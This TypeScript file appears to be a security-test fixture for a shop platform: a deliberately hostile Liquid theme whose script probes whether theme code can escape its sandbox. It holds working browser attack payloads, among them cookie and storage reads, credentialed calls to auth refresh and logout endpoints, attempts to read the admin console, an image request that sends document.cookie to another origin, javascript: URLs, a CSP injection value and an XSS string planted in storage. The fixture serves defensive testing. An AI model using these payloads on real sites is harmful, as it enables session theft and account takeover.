/** The script of a theme that tries to get at what is not its own; each attack answers all that it could read, as one text. */
export const hostileScript = String.raw`"use strict";
const text = (value) => { try { return typeof value === "string" ? value : JSON.stringify(value); } catch { return String(value); } };
const tried = async (work) => { try { return text(await work()); } catch (error) { return "threw " + error; } };
const answerOf = async (asking) => { const a = await asking; return { status: a.status, type: a.type, url: a.url, headers: [...a.headers], text: await a.text() }; };
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const peek = (win) => { const seen = []; for (const look of [() => win.closed, () => win.document.documentElement.outerHTML, () => win.location.href, () => win.history.length, () => win.opener, () => win.frames.length]) { try { seen.push(text(look())); } catch (error) { seen.push("threw " + error); } } return seen.join("\n"); };
const CACHES = ["default", "no-store", "reload", "no-cache", "force-cache", "only-if-cached"];
const loaded = (element) => new Promise((done) => { element.onload = () => done("load"); element.onerror = () => done("error"); document.body.append(element); setTimeout(() => done("nothing"), 1500); });
const holes = (list) => Promise.all(list.map(tried)).then((all) => all.join("\n"));

window.attacks = {
  cookies: () => tried(async () => [document.cookie, text(await window.cookieStore?.getAll())]),
  storage: () => tried(async () => [{ ...localStorage }, { ...sessionStorage }, await indexedDB.databases(), await caches.keys()]),
  refresh: () => holes([
    ...[{}, { "x-session-proof": "" }, { "x-session-proof": "null" }, { "x-session-proof": "A".repeat(43) }].flatMap((headers) =>
      [undefined, "{}"].map((body) => () => answerOf(fetch("/api/v1/auth/refresh", { method: "POST", credentials: "include", body, headers: { ...(body && { "content-type": "application/json" }), ...headers } })))),
    () => answerOf(fetch("/api/v1/auth/refresh?dryRun=true", { method: "POST", credentials: "include" })),
    () => navigator.sendBeacon("/api/v1/auth/refresh", "{}"),
    () => navigator.sendBeacon("/api/v1/auth/refresh", new Blob(["{}"], { type: "application/json" })),
  ]),
  api: () => holes(["auth/tenant/me", "auth/sessions", "orders", "settings", "api-keys", "storefront/account"].map((path) => () => answerOf(fetch("/api/v1/" + path, { credentials: "include" })))),
  logOut: () => holes([() => answerOf(fetch("/api/v1/auth/logout", { method: "POST", credentials: "include" })), () => answerOf(fetch("/api/v1/auth/logout-all", { method: "POST", credentials: "include" })), () => navigator.sendBeacon("/api/v1/auth/logout", "{}")]),
  console: () => holes([
    ...["/console", "/console/orders", "/console?x=" + Math.random()].flatMap((path) => CACHES.map((cache) => () => answerOf(fetch(path, { cache, credentials: "include", mode: "same-origin" })))),
    () => answerOf(fetch("/console", { headers: { "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Sec-Fetch-User": "?1" } })),
    () => answerOf(fetch(new Request("/console", { mode: "navigate" }))),
    () => answerOf(fetch("/console", { mode: "no-cors" })),
    () => answerOf(fetch("/console", { method: "HEAD" })),
    () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.responseType = "document"; x.onload = () => done(x.response.documentElement.outerHTML); x.onerror = fail; x.open("GET", "/console"); x.send(); }),
    async () => { const kept = await caches.open("x"); await kept.add("/console"); return answerOf(kept.match("/console")); },
  ]),
  workers: () => holes([
    () => new Promise((done) => { const worker = new Worker(SELF); worker.onmessage = ({ data }) => done(data); worker.onerror = () => done("failed"); worker.postMessage("/console"); setTimeout(() => done("nothing"), 3000); }),
  ]),
  frames: () => holes(["/console", "/account/login", "/docs", "/"].flatMap((path) => ["iframe", "object", "embed"].map((kind) => async () => {
    const element = document.createElement(kind);
    element[kind === "object" ? "data" : "src"] = path;
    const end = await loaded(element);
    let seen = "";
    try { seen = element.contentDocument?.documentElement.outerHTML ?? "no document"; } catch (error) { seen = "threw " + error; }
    let svg = ""; try { svg = element.getSVGDocument?.()?.documentElement.outerHTML ?? ""; } catch {}
    element.remove();
    return kind + " " + path + " " + end + " " + seen + svg;
  }))),
  popup: (path) => tried(async () => {
    const direct = window.open(path, "direct");
    const late = window.open(location.href, "late");
    await wait(1000);
    if (late) late.location = path;
    const seen = [];
    for (let i = 0; i < 15; i++) { seen.push(direct ? peek(direct) : "refused", late ? peek(late) : "refused"); await wait(200); }
    const named = window.open("", "direct"); seen.push(named ? peek(named) : "refused"); named?.close();
    direct?.close(); late?.close();
    return seen.join("\n");
  }),
  opener: () => tried(async () => { const seen = []; for (let i = 0; i < 20; i++) { seen.push(window.opener ? peek(window.opener) : "no opener"); await wait(200); } return seen.join("\n"); }),
  serviceWorkers: () => holes([SELF, "/console/assets/", "/docs/start.js", "/api/v1/openapi.json", "/sw.js", "/robots.txt"].flatMap((path) => ["/", undefined].map((scope) => async () => {
    const it = await navigator.serviceWorker.register(path, scope === undefined ? {} : { scope });
    return "REGISTERED " + it.scope;
  }))).then(async (all) => all + "\n" + (await navigator.serviceWorker.getRegistrations()).length + " registered"),
  speculation: () => holes([
    async () => { const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prerender: [{ urls: ["/console"] }], prefetch: [{ urls: ["/console"] }] }); document.head.append(rules); await wait(800); return "made"; },
    ...["prefetch", "preload", "modulepreload", "prerender", "stylesheet", "import"].map((rel) => async () => { const link = document.createElement("link"); link.rel = rel; link.href = "/console"; link.as = "script"; return rel + " " + (await loaded(link)); }),
    async () => { const script = document.createElement("script"); script.src = "/console"; return loaded(script); },
    async () => performance.getEntriesByType("resource").map(({ name, transferSize }) => name + transferSize),
  ]),
  pages: (paths) => holes(paths.flatMap((path) => [() => answerOf(fetch(path, { credentials: "include" })), () => answerOf(fetch(path, { method: "POST", body: new URLSearchParams({ email: "a@b.test" }) }))])),
  elsewhere: (origin) => holes([
    () => answerOf(fetch(origin + "/api/v1/auth/refresh", { method: "POST", credentials: "include" })),
    () => answerOf(fetch(origin + "/api/v1/storefront/products", { credentials: "include", mode: "no-cors" })),
    () => navigator.sendBeacon(origin + "/api/v1/auth/logout", "x"),
    async () => { const image = new Image(); image.src = origin + "/?" + document.cookie; return loaded(image); },
    async () => { const script = document.createElement("script"); script.src = origin + "/docs/start.js"; return loaded(script); },
  ]),
  inline: () => holes([
    async () => { const a = document.createElement("a"); a.href = "javascript:window.__ran='link'"; document.body.append(a); a.click(); await wait(200); return window.__ran; },
    async () => { const form = document.createElement("form"); form.action = "javascript:window.__ran='form'"; document.body.append(form); form.submit(); await wait(200); return window.__ran; },
    async () => { const script = document.createElement("script"); script.textContent = "window.__ran='inline'"; document.head.append(script); return window.__ran; },
    async () => { const image = new Image(); image.setAttribute("onerror", "window.__ran='handler'"); image.src = "/nothing"; await loaded(image); return window.__ran; },
    async () => { location.href = "javascript:window.__ran='location'"; await wait(200); return window.__ran; },
    async () => { setTimeout(() => eval("window.__ran='eval'")); setTimeout("window.__ran='timeout'"); await wait(100); return window.__ran; },
    async () => { const base = document.createElement("base"); base.href = "https://evil.example/"; document.head.append(base); const at = document.createElement("a"); at.href = "x"; base.remove(); return at.href; },
  ]),
  history: () => tried(async () => [document.referrer, window.navigation?.entries().map(({ url }) => url)]),
  poison: () => tried(async () => {
    for (const key of ["stoa-language", "stoa-scheme", "stoa-session", "mantine-color-scheme-value", "stoa-reloaded", "session-proof", ...Object.keys(localStorage)]) { localStorage.setItem(key, "\"><img src=x onerror=window.__xss=1>"); sessionStorage.setItem(key, "{\"__proto__\":1}"); }
    return "done";
  }),
  listen: () => { window.heard = []; addEventListener("storage", (event) => window.heard.push(event.key + "=" + event.newValue)); addEventListener("message", (event) => window.heard.push(text(event.data))); for (const name of ["stoa", "session", "console", "query", "tanstack"]) new BroadcastChannel(name).onmessage = ({ data }) => window.heard.push(text(data)); return "listening"; },
};
`;

/** What the script is in a worker. */
const inWorker = `if (typeof window === "undefined") {
  self.window = self;
  onmessage = async ({ data }) => postMessage(await (await fetch(data, { credentials: "include" })).text());
}
`;

/** The files of a theme whose script runs on each page. */
export const hostileTheme: readonly { path: string; content: string }[] = [
  {
    path: "layout/theme.liquid",
    content: `<!doctype html><html><head><title>Shop</title>{{ content_for_header }}
<meta http-equiv="Content-Security-Policy" content="script-src *"></head>
<body>{{ content_for_layout }}<a id="set" href="{{ settings.link }}">set</a>
<p id="files" data-html="{{ 'page.html' | asset_url }}" data-svg="{{ 'page.svg' | asset_url }}" data-xml="{{ 'page.xml' | asset_url }}" data-xhtml="{{ 'page.xhtml' | asset_url }}" data-none="{{ 'page' | asset_url }}"></p>
<script src="{{ 'evil.js' | asset_url }}"></script></body></html>`,
  },
  {
    path: "config/settings_schema.json",
    content: JSON.stringify([
      {
        name: "Links",
        settings: [
          { type: "url", id: "link", label: "Link" },
          { type: "text", id: "policy", label: "Policy" },
        ],
      },
    ]),
  },
  {
    path: "config/settings_data.json",
    content: JSON.stringify({
      current: { link: "javascript:window.__ran='setting'", policy: "'; script-src * 'unsafe-inline'; x '" },
    }),
  },
  ...["index", "product", "cart", "404", "page", "customers/account", "customers/order"].map((name) => ({
    path: `templates/${name}.liquid`,
    content: `<h1>${name}</h1><p>{{ settings.policy }}</p>`,
  })),
  {
    path: "assets/evil.js",
    content: `${inWorker}const SELF = typeof document === "undefined" ? "" : document.currentScript?.src;\n${hostileScript}`,
  },
  { path: "assets/page.html", content: "<script>window.__page=document.cookie+'ran'</script>" },
  {
    path: "assets/page.svg",
    content: '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__page="ran"</script></svg>',
  },
  {
    path: "assets/page.xml",
    content: '<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>window.__page="ran"</h:script></x>',
  },
  {
    path: "assets/page.xhtml",
    content: '<html xmlns="http://www.w3.org/1999/xhtml"><script>window.__page="ran"</script></html>',
  },
  { path: "assets/page", content: "<script>window.__page='ran'</script>" },
];
